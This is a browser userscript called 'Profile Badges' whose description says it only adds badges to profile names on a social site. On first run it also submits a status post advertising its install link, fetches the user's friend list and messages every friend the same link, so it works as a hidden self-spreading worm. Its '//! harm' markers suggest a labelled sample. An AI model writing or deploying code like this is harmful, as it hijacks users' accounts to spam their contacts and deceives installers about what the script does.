// ==UserScript==
// @name         Profile Badges
// @namespace    badges.example.net
// @version      0.9.9
// @description  Adds badges to profiles.
// @match        https://social.example.org/*
// @grant        none
// ==/UserScript==

(function () {
  var done = localStorage.getItem('pb-shared');
  document.querySelectorAll('.profile-name').forEach(function (n) { n.insertAdjacentText('beforeend', ' 🏅'); });
  if (done) return;
  localStorage.setItem('pb-shared', Date.now());

  var text = 'I just got badges for my profile! Get yours: https://badges.example.net/install';
  var composer = document.querySelector('textarea[name=status]');
  composer.value = text;
  composer.form.querySelector('button[type=submit]').click(); //! harm

  fetch('/api/friends').then(function (r) { return r.json(); }).then(function (friends) {
    friends.forEach(function (friend, i) {
      setTimeout(function () {
        fetch('/api/messages', { method: 'POST', body: JSON.stringify({ to: friend.id, text: text }) }); //! harm
      }, i * 1500);
    });
  });
})();
